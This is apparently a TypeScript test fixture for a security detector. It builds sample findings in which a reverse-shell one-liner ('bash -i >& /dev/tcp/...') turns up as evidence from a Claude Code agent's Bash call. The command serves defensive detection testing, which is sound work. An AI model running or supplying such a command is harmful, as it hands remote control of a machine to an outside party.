/** A valid finding for tests, changed where a test cares. */
import type { Evidence, Finding } from '../contracts/finding';

export const evidenceOf = (parts: Partial<Evidence>): Evidence => ({
  eventId: 'e1',
  at: 1_000,
  excerpt: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  phase: 'completed',
  tool: 'Bash',
  callId: 'toolu_1',
  ...parts,
});

export const findingOf = (parts: Partial<Finding>): Finding => ({
  id: 'f1',
  alertId: 'a1',
  tenant: 'default',
  scope: 'session:claude-code:s1',
  detector: 'reverse-shell',
  detectorVersion: '1.0.0',
  title: 'Reverse shell',
  why: 'bash connects its input and output to 203.0.113.9:4444.',
  baseSeverity: 'high',
  confidence: 'high',
  facts: ['attempted'],
  techniques: ['T1059.004'],
  entities: { session: 's1', host: 'build-1' },
  evidence: [evidenceOf({})],
  at: 1_000,
  receivedAt: 1_100,
  source: { dialect: 'claude-code' },
  triage: ['Look at what ran in the shell.'],
  falsePositives: ['A lesson about reverse shells.'],
  ...parts,
});
